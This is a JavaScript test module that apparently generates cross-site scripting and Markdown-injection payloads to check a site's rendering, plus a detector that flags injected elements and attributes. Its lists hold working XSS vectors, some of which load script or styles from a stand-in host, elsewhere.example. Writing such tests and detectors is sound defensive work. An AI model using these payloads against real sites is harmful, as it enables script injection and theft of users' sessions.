// SEC-13's texts: what would run, load or steer a page that does not take care, made from three short lists: how a text gets out of
// where it stands, what it does then, and how it is disguised; and the ways of Markdown.

const ran = "alert('ran')";
const breakers = ["", "\"", "'", "\">", "'>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "</svg>", "-->", "]]>", "</a>", "</noscript>", "`", "&quot;&gt;", "\" x=\""];
const vectors = [
  `<x-canary>`,
  `<img src=x onerror=${ran}>`,
  `<img/src=x/onerror=${ran}>`,
  `<svg onload=${ran}>`,
  `<svg><animate onbegin=${ran} attributeName=x>`,
  `<svg><a xlink:href="javascript:${ran}"><text>x</text></a>`,
  `<svg><style><img src=x onerror=${ran}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${ran}>`,
  `<math href="javascript:${ran}">x`,
  `<script>${ran}</script>`,
  `<script src=//elsewhere.example/x.js></script>`,
  `<iframe srcdoc="<script>${ran}</script>">`,
  `<iframe src="javascript:${ran}">`,
  `<object data="javascript:${ran}">`,
  `<embed src="data:text/html,<script>${ran}</script>">`,
  `<a href="javascript:${ran}">x</a>`,
  `<a href="jav&#x09;ascript:${ran}">x</a>`,
  `<a href="&#1;javascript:${ran}">x</a>`,
  `<form action="javascript:${ran}"><button>x</button></form>`,
  `<button formaction="javascript:${ran}">x</button>`,
  `<input autofocus onfocus=${ran}>`,
  `<details open ontoggle=${ran}>x</details>`,
  `<video><source onerror=${ran}></video>`,
  `<audio src=x onerror=${ran}></audio>`,
  `<marquee onstart=${ran}>x</marquee>`,
  `<body onload=${ran}>`,
  `<meta http-equiv=refresh content="0;url=//elsewhere.example/">`,
  `<base href=//elsewhere.example/>`,
  `<link rel=stylesheet href=//elsewhere.example/x.css>`,
  `<style>@import "//elsewhere.example/x.css"</style>`,
  `<noscript><p title="</noscript><img src=x onerror=${ran}>">`,
  `<template><x-canary></template>`,
  `onmouseover=${ran} autofocus onfocus=${ran} x=`,
];
const disguises = [
  (text) => text,
  (text) => text.replace(/<(\w+)/g, (_, name) => `<${[...name].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join("")}`),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
];
const markdown = [
  `[x](javascript:${ran})`, `[x](JaVaScRiPt:${ran})`, `[x]( javascript:${ran})`, `[x](java&#115;cript:${ran})`, `[x](&#106;avascript:${ran})`, `[x](javascript&colon;${ran})`,
  `[x](<javascript:${ran}>)`, `[x](vbscript:${ran})`, `[x](data:text/html,<script>${ran}</script>)`, `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgncmFuJyk8L3NjcmlwdD4=)`,
  `![x](javascript:${ran})`, `![x](//elsewhere.example/x.png)`, `![x"onerror="${ran}](x)`, `[x](x "onmouseover=${ran}")`, `<javascript:${ran}>`, `<data:text/html,${ran}>`,
  `[x]: javascript:${ran}\n\n[x]`, `[a][b]\n\n[b]: data:text/html,${ran}`, `<https://elsewhere.example/"onmouseover="${ran}>`, `[\u0001x](\u0001javascript:${ran})`,
  `\`\`\`"onmouseover=${ran}\n<x-canary>\n\`\`\``, `~~~<x-canary>\n~~~`, `\`<x-canary>\``, `- [ ] <x-canary>`, `| a |\n|---|\n| <x-canary> |`, `# <img src=x onerror=${ran}>`,
  `> <svg onload=${ran}>`, `<!-- --><x-canary>`, `<![CDATA[<x-canary>]]>`, `<?x <x-canary>?>`, `[^1]\n\n[^1]: <x-canary>`, `Term\n: <x-canary>`,
];

/// All of them, each once.
export const payloads = [...new Set([
  ...markdown,
  ...disguises.flatMap((disguise) => breakers.flatMap((breaker) => vectors.map((vector) => disguise(breaker + vector)))),
])];

/// Elements and attributes that no page of the desk has: where one is found, a text has become a part of its page. Runs in a page.
export function denied(document) {
  const found = [];
  const elements = "x-canary, iframe, object, embed, base, math, marquee, video, audio, meta[http-equiv], style, template, script:not([src]), animate";
  for (const element of document.querySelectorAll(elements)) found.push(element.outerHTML.slice(0, 120));
  const addresses = ["href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"];
  for (const element of document.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      const address = value.replace(/[\u0000-\u0020]/g, "").toLowerCase();
      const steers = addresses.includes(name) && (/^(javascript|vbscript|data:text)/.test(address) || address.includes("//elsewhere.example") && element.localName !== "a");
      if (name.startsWith("on") || name === "srcdoc" || name === "formaction" && !value.startsWith("/") || steers) found.push(`${element.localName} ${name}="${value.slice(0, 80)}"`);
    }
  }
  return found;
}
